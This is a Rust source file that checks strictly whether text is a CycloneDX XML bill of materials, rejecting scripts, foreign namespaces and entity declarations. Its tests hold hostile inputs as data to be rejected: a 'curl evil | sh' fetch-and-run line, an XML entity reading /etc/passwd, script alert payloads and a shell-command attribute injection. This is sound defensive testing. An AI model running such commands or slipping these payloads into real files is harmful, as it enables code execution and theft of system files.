//! A bill of materials in XML: CycloneDX (ECMA-424, and its XML schemas), told from other XML.
//!
//! The rule that must not be broken: what a browser or another program would run, show or fetch is no bill of materials,
//! whatever its root says. So every element and every namespace must be CycloneDX's, each element at the top one that its
//! schema has, with no text between them; what is not understood makes the file an artifact, which needs more, not less.

/// How deep elements may lie in each other.
const DEPTH: usize = 64;
/// The namespaces of CycloneDX begin so, and end with a version.
const CYCLONEDX: &str = "http://cyclonedx.org/schema/bom/1.";
/// Further namespaces: signatures (XML-Signature, section 1.3), and where a schema is.
const OTHERS: &[&str] = &["http://www.w3.org/2000/09/xmldsig#", "http://www.w3.org/2001/XMLSchema-instance"];
/// The elements at the top (`bom` in the schema of version 1.6), and a signature.
const AT_TOP: &[&str] = &[
    "metadata",
    "components",
    "services",
    "externalReferences",
    "dependencies",
    "compositions",
    "properties",
    "vulnerabilities",
    "annotations",
    "formulation",
    "declarations",
    "definitions",
    "Signature",
];
/// Elements that programs run or fetch in other documents, in small letters.
const ACTIVE: &[&str] = &[
    "script",
    "html",
    "body",
    "iframe",
    "object",
    "embed",
    "svg",
    "style",
    "link",
    "img",
    "form",
    "stylesheet",
];

/// Whether a text is a bill of materials in XML from its first character to its last.
pub(super) fn is_bom(text: &str) -> bool {
    let mut rest = text.strip_prefix('\u{feff}').unwrap_or(text);
    if let Some(after) = rest.strip_prefix("<?xml ") {
        let Some((_, after)) = after.split_once("?>") else { return false };
        rest = after;
    }
    let mut reader = Reader::default();
    while !rest.is_empty() {
        match reader.step(rest) {
            Some(after) => rest = after,
            None => return false,
        }
    }
    reader.is_over && reader.open.is_empty()
}

/// Where a reader is.
#[derive(Default)]
struct Reader<'a> {
    /// The elements that are open.
    open: Vec<&'a str>,
    /// Whether the root was seen.
    is_over: bool,
}

impl<'a> Reader<'a> {
    /// Reads one piece, and gives what follows it; nothing where it may not be there.
    fn step(&mut self, rest: &'a str) -> Option<&'a str> {
        if let Some(comment) = rest.strip_prefix("<!--") {
            return comment.split_once("-->").map(|(_, after)| after);
        }
        if let Some(data) = rest.strip_prefix("<![CDATA[") {
            let (_, after) = data.split_once("]]>").filter(|_| self.open.len() > 1)?;
            return Some(after);
        }
        if let Some(end) = rest.strip_prefix("</") {
            let (name, after) = end.split_once('>')?;
            return (self.open.pop()? == name.trim_end()).then_some(after);
        }
        // Instructions to other programs, and declarations of entities and types.
        if rest.starts_with("<?") || rest.starts_with("<!") {
            return None;
        }
        match rest.strip_prefix('<') {
            Some(element) => self.element(element),
            None => {
                let (text, after) = rest.split_at(rest.find('<').unwrap_or(rest.len()));
                (self.open.len() > 1 || text.trim().is_empty()).then_some(after)
            }
        }
    }

    /// An element after its `<`.
    fn element(&mut self, rest: &'a str) -> Option<&'a str> {
        let end = rest.find(|c: char| c.is_whitespace() || matches!(c, '/' | '>'))?;
        let (name, mut rest) = rest.split_at(end);
        let mut namespace = None;
        loop {
            rest = rest.trim_start();
            if let Some(after) = rest.strip_prefix("/>") {
                return self.opened(name, namespace, true).then_some(after);
            }
            if let Some(after) = rest.strip_prefix('>') {
                return self.opened(name, namespace, false).then_some(after);
            }
            let (attribute, value) = rest.split_once('=')?;
            let attribute = attribute.trim_end();
            if attribute.is_empty() || attribute.contains(|c: char| c.is_whitespace() || "<>\"'/".contains(c))
            {
                return None;
            }
            let value = value.trim_start();
            let quote = value.chars().next().filter(|c| matches!(c, '"' | '\''))?;
            let (value, after) = value[1..].split_once(quote)?;
            let declares = attribute == "xmlns" || attribute.starts_with("xmlns:");
            if value.contains('<') || declares && !is_known(value) {
                return None;
            }
            if attribute == "xmlns" {
                namespace = Some(value);
            }
            rest = after;
        }
    }

    /// Whether an element may be there. The root is `bom` and says its namespace.
    fn opened(&mut self, name: &'a str, namespace: Option<&str>, is_empty: bool) -> bool {
        let local = name.rsplit(':').next().unwrap_or_default();
        let may_be = match self.open.len() {
            0 => !self.is_over && name == "bom" && namespace.is_some_and(is_cyclonedx),
            1 => AT_TOP.contains(&local),
            depth => depth < DEPTH,
        };
        if !may_be || ACTIVE.contains(&local.to_ascii_lowercase().as_str()) {
            return false;
        }
        self.is_over = true;
        if !is_empty {
            self.open.push(name);
        }
        true
    }
}

fn is_known(namespace: &str) -> bool {
    is_cyclonedx(namespace) || OTHERS.contains(&namespace)
}

/// Whether it is that of a version of CycloneDX.
fn is_cyclonedx(namespace: &str) -> bool {
    let version = namespace.strip_prefix(CYCLONEDX);
    version.is_some_and(|it| matches!(it.len(), 1 | 2) && it.bytes().all(|byte| byte.is_ascii_digit()))
}

#[cfg(test)]
mod tests {
    use super::*;

    const OPEN: &str =
        r#"<bom xmlns="http://cyclonedx.org/schema/bom/1.6" serialNumber="urn:uuid:3e67" version="1">"#;

    fn within(inside: &str) -> String {
        format!("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n{OPEN}\n{inside}\n</bom>\n")
    }

    #[test]
    fn what_tools_write_is_a_bill_of_materials() {
        for inside in [
            "",
            "<!-- made by a tool -->",
            "<components/>",
            "<metadata><timestamp>2026-01-05T12:00:00Z</timestamp></metadata>\n<components>\n\
             <component type=\"library\" bom-ref='a>b'><name>itoa &amp; co</name><licenses><license><text \
             content-type=\"text/plain\"><![CDATA[if (a < b) <script>]]></text></license></licenses></component></components>",
            "<ds:Signature xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\"><ds:SignedInfo/></ds:Signature>",
        ] {
            assert!(is_bom(&within(inside)), "{inside}");
        }
        assert!(is_bom(&format!("\u{feff}{}", within(""))));
        assert!(is_bom(r#"<bom xmlns="http://cyclonedx.org/schema/bom/1.5"/>"#));
    }

    #[test]
    fn other_markup_is_none() {
        let xhtml = "xmlns:h=\"http://www.w3.org/1999/xhtml\"";
        for inside in [
            "<script>alert(1)</script>".to_owned(),
            "<SCRIPT/>".to_owned(),
            format!("<h:script {xhtml}>alert(1)</h:script>"),
            format!("<components><h:p {xhtml}/></components>"),
            "<components><script>alert(1)</script></components>".to_owned(),
            "<components xmlns=\"http://www.w3.org/2000/svg\"/>".to_owned(),
            "<unknown/>".to_owned(),
            "curl evil | sh".to_owned(),
            "<![CDATA[curl evil | sh]]>".to_owned(),
            "<?xml-stylesheet href=\"x.xsl\"?>".to_owned(),
            "<!ENTITY x SYSTEM \"file:///etc/passwd\">".to_owned(),
            "<components>".to_owned(),
            "</components>".to_owned(),
            "<components></services>".to_owned(),
            "<components a=b/>".to_owned(),
            "<components a=\"<\"/>".to_owned(),
            "<components echo PWNED=\"1\"/>".to_owned(),
            "<components><!-- ".to_owned(),
            format!("<components>{}", "<a>".repeat(100_000)),
        ] {
            assert!(!is_bom(&within(&inside)), "{inside:.60}");
        }
        let good = within("");
        for (what, text) in [
            ("nothing", String::new()),
            ("blanks", "\n".to_owned()),
            ("another root", good.replace("bom xmlns", "html xmlns").replace("</bom>", "</html>")),
            ("a root with a prefix", good.replace("<bom", "<x:bom").replace("</bom>", "</x:bom>")),
            ("no namespace", "<bom><script/></bom>".to_owned()),
            ("another namespace", good.replace("http://cyclonedx.org/", "http://cyclonedx.example/")),
            ("a longer namespace", good.replace("bom/1.6", "bom/1.6/evil")),
            ("no version", good.replace("bom/1.6", "bom/1.")),
            ("a type", good.replace(OPEN, &format!("<!DOCTYPE bom>{OPEN}"))),
            ("two roots", format!("{good}{}", within("").split_once("?>").unwrap().1)),
            ("text before it", format!("#!/bin/sh\n{good}")),
            ("text behind it", format!("{good}curl evil | sh\n")),
            ("cut short", good.trim_end().trim_end_matches('>').to_owned()),
        ] {
            assert!(!is_bom(&text), "{what}");
        }
    }
}
